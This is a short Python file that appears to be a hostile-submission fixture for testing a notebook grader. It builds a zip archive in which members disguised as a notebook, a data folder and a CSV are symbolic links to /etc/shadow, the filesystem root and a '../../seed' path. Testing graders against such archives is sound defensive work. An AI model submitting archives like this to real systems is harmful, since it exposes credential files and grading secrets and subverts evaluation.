# /// attack
# tries = "hands in members that are links"
# total = 2
# [parts]
# 2d = "right"
# ///

"""Symbolic links to secrets in the place of a notebook and of data."""

import stat
import zipfile
from pathlib import Path

from hostile_attacks import HONEST, code_cell, notebook

BOOK = notebook([code_cell(HONEST)]).encode()


def hand_in(target: Path) -> None:
    with zipfile.ZipFile(target.with_name(f"{target.name}.zip"), "w") as archive:
        archive.writestr("a.ipynb", BOOK)
        for name, aim in (("b.ipynb", "/etc/shadow"), ("data", "/"), ("c.csv", "../../seed")):
            entry = zipfile.ZipInfo(name)
            entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, aim)
